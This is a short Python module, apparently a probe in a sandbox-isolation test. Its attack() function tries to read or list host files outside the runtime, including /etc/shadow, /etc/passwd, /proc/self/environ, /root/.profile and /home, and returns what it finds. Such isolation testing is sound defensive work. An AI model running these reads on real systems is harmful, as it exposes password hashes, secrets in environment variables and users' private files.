"""read files of the host

Breach: the contents of any file that is not part of the runtime.
"""

import os

PLACES = (
    *("/etc/passwd", "/etc/hostname", "/etc/shadow", "/proc/self/environ", "/proc/self/status"),
    *("/proc/1/cmdline", "/proc/self/root/etc/passwd", "/proc/mounts", "/sys/kernel/notes"),
    *("/root/.profile", "/var/lib", "/home", "/tmp", "/srv"),
)


def attack(bait: bytes) -> bytes:
    _, folder, file = bait.decode().split("\n")
    found = [got for place in (file, folder, *PLACES) if (got := taken(place))]
    return b" ".join(found)


def taken(place: str) -> bytes:
    try:
        with open(place, "rb") as stream:
            return stream.read(100)
    except OSError:
        try:
            return " ".join(os.listdir(place)).encode()
        except OSError:
            return b""
